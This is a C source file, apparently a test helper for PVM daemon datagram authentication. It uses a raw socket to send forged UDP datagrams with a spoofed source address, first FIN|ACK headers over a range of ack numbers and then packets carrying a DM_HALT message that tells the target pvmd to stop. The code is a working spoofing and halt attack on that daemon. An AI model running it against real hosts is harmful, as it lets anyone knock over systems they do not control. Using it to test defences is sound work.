/* Forged pvmd datagrams with a spoofed source address (raw socket, root): for hard_dgauth.rs.
 *   udpspoof SRCIP SRCPORT DSTIP DSTPORT SRCTID DSTTID COUNT
 * Sends COUNT datagrams claiming to come from SRCIP:SRCPORT: FIN|ACK headers with ack 0..COUNT-1,
 * then DAT|SOM|EOM with a DM_HALT message header. Prints how many were sent. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <sys/socket.h>

int main(int argc, char **argv)
{
	unsigned char pkt[20 + 8 + 16 + 32];
	struct iphdr *ip = (struct iphdr *)pkt;
	struct udphdr *udp = (struct udphdr *)(pkt + 20);
	unsigned char *dd = pkt + 28;
	struct sockaddr_in to;
	int s, one = 1, i, count, sent = 0;
	unsigned src, dst, v;
	if (argc != 8) {
		fprintf(stderr, "usage: udpspoof SRCIP SRCPORT DSTIP DSTPORT SRCTID DSTTID COUNT\n");
		return 1;
	}
	s = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (s < 0 || setsockopt(s, IPPROTO_IP, IP_HDRINCL, &one, sizeof one) < 0) {
		perror("raw socket");
		return 1;
	}
	src = strtoul(argv[5], 0, 16);
	dst = strtoul(argv[6], 0, 16);
	count = atoi(argv[7]);
	memset(&to, 0, sizeof to);
	to.sin_family = AF_INET;
	inet_pton(AF_INET, argv[3], &to.sin_addr);
	for (i = 0; i < 2 * count; i++) {
		int halt = i >= count, len = 20 + 8 + 16 + (halt ? 32 : 0);
		memset(pkt, 0, sizeof pkt);
		ip->version = 4;
		ip->ihl = 5;
		ip->ttl = 64;
		ip->protocol = IPPROTO_UDP;
		ip->tot_len = htons(len);
		inet_pton(AF_INET, argv[1], &ip->saddr);
		ip->daddr = to.sin_addr.s_addr;
		udp->source = htons(atoi(argv[2]));
		udp->dest = htons(atoi(argv[4]));
		udp->len = htons(len - 20);
		udp->check = 0;
		v = htonl(dst); memcpy(dd, &v, 4);
		v = htonl(src); memcpy(dd + 4, &v, 4);
		if (!halt) {
			dd[10] = i >> 8; dd[11] = i; dd[12] = 0x08 | 0x10; /* FIN|ACK */
		} else {
			unsigned w[8] = {htonl(0x10000000), htonl(0x8002000a), 0, 0, 0, 0, 0, 0};
			dd[8] = (i - count + 1) >> 8; dd[9] = i - count + 1; dd[12] = 0x04 | 0x03;
			memcpy(dd + 16, w, 32);
		}
		if (sendto(s, pkt, len, 0, (struct sockaddr *)&to, sizeof to) == len)
			sent++;
	}
	printf("%d\n", sent);
	return 0;
}
